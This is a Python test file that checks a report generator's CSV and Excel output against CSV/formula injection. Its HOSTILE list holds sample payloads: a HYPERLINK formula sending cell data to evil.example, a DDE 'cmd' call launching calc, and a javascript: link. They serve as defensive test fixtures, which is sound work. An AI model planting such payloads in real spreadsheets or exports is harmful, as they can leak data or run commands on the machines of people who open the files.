"""Text from configs and DfE files cannot run as a formula or become a link in the pack's CSVs and workbook.

OWASP "CSV Injection": a cell starting ``=``, ``+``, ``-``, ``@``, tab or carriage return is a formula to Excel
and LibreOffice. On a84b52b ``=HYPERLINK("http://...")`` in a name was written to ``all-tables.xlsx`` as a live
formula (``<f>HYPERLINK(...)</f>``), left as is in the CSV downloads, a bare URL became a hyperlink, and a
markdown link (``[text](javascript:...)``) in a cell or the title stopped the build with xlsxwriter's
``ValueError: Unknown URL type``. Numbers, negative ones included, must stay numbers.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from helpers.present.spreadsheet import csv_safe, formula_safe, write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "http://evil.example/",
    "[Click here](javascript:alert(1))",
]


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("text", HOSTILE[:6])
def test_formula_like_text_gets_a_leading_quote(text: str) -> None:
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["-3", "-2.5", "+4", "-12.5%", "-1,234.5", "-1.5e-03", "Northby", "fewer than 5",
                                  "not shown", "'quoted", ""])
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert formula_safe(text) == text


def test_csv_safe_guards_text_cells_and_headers_only() -> None:
    table = pd.DataFrame({"=evil()": ["=1+1", "Kent"], "count": [-3, 4], "mixed": ["fewer than 5", -2]})
    out = csv_safe(table)
    assert list(out.columns) == ["'=evil()", "count", "mixed"]
    assert out["'=evil()"].tolist() == ["'=1+1", "Kent"]
    assert out["count"].tolist() == [-3, 4] and out["count"].dtype == table["count"].dtype
    assert out["mixed"].tolist() == ["fewer than 5", -2]
    assert table.iloc[0, 0] == "=1+1"  # the caller's table is not changed


def test_workbook_holds_text_not_formulas_or_links(tmp_path: Path) -> None:
    src = tmp_path / "05_benchmarks-names.csv"
    with src.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(["Area", "Change"])
        for i, text in enumerate(HOSTILE):
            w.writerow([text, -i - 1])
        w.writerow(["'=guarded by csv_safe", "-12.5"])
    title = "Northby [pack](javascript:alert(1)) $$x$$ =1+1"
    out = write_workbook([src], tmp_path / "all-tables.xlsx", title, synthetic=False)

    xml = sheet_xml(out)
    assert "<f>" not in xml  # no formula anywhere in the workbook
    links = re.findall(r"<hyperlink [^>]*>", xml)
    assert links and all("location=" in a and "r:id" not in a for a in links)  # only the contents' own links
    with zipfile.ZipFile(out) as z:
        rels = "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".rels"))
    assert 'TargetMode="External"' not in rels and "evil.example" not in rels and "javascript" not in rels

    wb = openpyxl.load_workbook(out)
    ws = wb[wb.sheetnames[-1]]
    rows = [r for r in ws.iter_rows(values_only=True) if r[0] is not None]
    header = rows.index(("Area", "Change"))
    body = rows[header + 1:]
    assert [r[0] for r in body[:5]] == HOSTILE[:5]  # exactly as written, as text
    assert body[5][0].lstrip("\r") == "=1+1"  # text too (XML readers drop a bare carriage return)
    assert body[6][0] == "http://evil.example/"
    assert body[7][0] == "[Click here] (javascript:alert(1))"  # gptables' link markup defused, text kept
    assert body[8][0] == "=guarded by csv_safe"  # the CSV guard quote comes off: the workbook holds text
    assert [r[1] for r in body] == [-1, -2, -3, -4, -5, -6, -7, -8, -12.5]  # numbers stay numbers
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type in ("s", "n") for c in cells)
    cover = [r[0] for r in wb["Cover"].iter_rows(values_only=True) if r[0] is not None]
    assert cover[0] == "Northby [pack] (javascript:alert(1)) $ $x$ $ =1+1"


def test_show_table_writes_guarded_csv(tmp_path: Path, root: Path) -> None:
    """The CSV download of a table holds ``'=...`` (inert in Excel), and numbers as numbers."""
    from helpers.present.chart import Table
    from helpers.present.page import open_page

    page = open_page(root / "config" / "demo.yaml", tmp_path / "pack" / "data", "public", notebook="04_x")
    table = pd.DataFrame({"Area": ['=HYPERLINK("http://evil.example")', "@cmd", "Kent"], "Change": [-3, 0, 2]})
    page.show(Table(table, "Names"))
    written = (page.downloads / "04_x-names.csv").read_text(encoding="utf-8")
    assert written.splitlines() == ["Area,Change", '"\'=HYPERLINK(""http://evil.example"")",-3', "'@cmd,0", "Kent,2"]
    assert not re.search(r"^[=+@-]", written, flags=re.M)
